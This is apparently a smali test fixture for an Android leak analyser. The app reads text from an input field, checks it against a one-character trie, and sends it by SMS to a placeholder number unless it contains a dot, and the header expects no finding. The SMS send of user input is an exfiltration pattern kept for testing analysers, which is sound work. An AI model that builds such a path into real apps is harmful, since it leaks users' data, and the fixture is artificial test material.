# micro: decision-tree-not-of-words
# group: decisions
# says: the same walk along a tree of characters that was not built from a list: signs of one notation, put in one by one
# expect: none

.class public final Lmicro/Main;
.super Landroid/app/Activity;

.method public constructor <init>()V
    .locals 0
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .locals 1
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    new-instance v0, Landroid/widget/EditText;
    invoke-direct {v0, p0}, Landroid/widget/EditText;-><init>(Landroid/content/Context;)V
    invoke-virtual {p0, v0}, Lmicro/Main;->check(Landroid/widget/TextView;)V
    return-void
.end method

.method check(Landroid/widget/TextView;)V
    .locals 6
    invoke-virtual {p1}, Landroid/widget/TextView;->getText()Ljava/lang/CharSequence;
    move-result-object v0
    invoke-interface {v0}, Ljava/lang/CharSequence;->toString()Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lmicro/Tree;->bad(Ljava/lang/String;)Z
    move-result v1
    if-nez v1, :quiet
    move-object v3, v0
    invoke-static {}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;
    move-result-object v0
    const-string v1, "+37000000000"
    const/4 v2, 0x0
    const/4 v4, 0x0
    const/4 v5, 0x0
    invoke-virtual/range {v0 .. v5}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
    :quiet
    return-void
.end method

.class final Lmicro/Tree;
.super Ljava/lang/Object;
.field static root:Lmicro/Node;

.method static constructor <clinit>()V
    .locals 5
    new-instance v0, Lmicro/Node;
    invoke-direct {v0}, Lmicro/Node;-><init>()V
    sput-object v0, Lmicro/Tree;->root:Lmicro/Node;
    new-instance v1, Lmicro/Node;
    invoke-direct {v1}, Lmicro/Node;-><init>()V
    const/16 v2, 0x2e
    invoke-static {v2}, Ljava/lang/Character;->valueOf(C)Ljava/lang/Character;
    move-result-object v2
    iget-object v3, v0, Lmicro/Node;->children:Ljava/util/Map;
    invoke-interface {v3, v2, v1}, Ljava/util/Map;->put(Ljava/lang/Object;Ljava/lang/Object;)Ljava/lang/Object;
    const/4 v4, 0x1
    iput-boolean v4, v1, Lmicro/Node;->end:Z
    return-void
.end method

.method static bad(Ljava/lang/String;)Z
    .locals 6
    invoke-virtual {p0}, Ljava/lang/String;->length()I
    move-result v1
    const/4 v0, 0x0
    :start
    if-ge v0, v1, :no
    sget-object v2, Lmicro/Tree;->root:Lmicro/Node;
    move v3, v0
    :walk
    if-ge v3, v1, :next
    invoke-virtual {p0, v3}, Ljava/lang/String;->charAt(I)C
    move-result v4
    invoke-static {v4}, Ljava/lang/Character;->valueOf(C)Ljava/lang/Character;
    move-result-object v4
    iget-object v5, v2, Lmicro/Node;->children:Ljava/util/Map;
    invoke-interface {v5, v4}, Ljava/util/Map;->get(Ljava/lang/Object;)Ljava/lang/Object;
    move-result-object v2
    check-cast v2, Lmicro/Node;
    if-eqz v2, :next
    iget-boolean v4, v2, Lmicro/Node;->end:Z
    if-eqz v4, :further
    const/4 v0, 0x1
    return v0
    :further
    add-int/lit8 v3, v3, 0x1
    goto :walk
    :next
    add-int/lit8 v0, v0, 0x1
    goto :start
    :no
    const/4 v0, 0x0
    return v0
.end method

.class final Lmicro/Node;
.super Ljava/lang/Object;
.field final children:Ljava/util/Map;
.field end:Z
.method constructor <init>()V
    .locals 1
    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    new-instance v0, Ljava/util/HashMap;
    invoke-direct {v0}, Ljava/util/HashMap;-><init>()V
    iput-object v0, p0, Lmicro/Node;->children:Ljava/util/Map;
    return-void
.end method
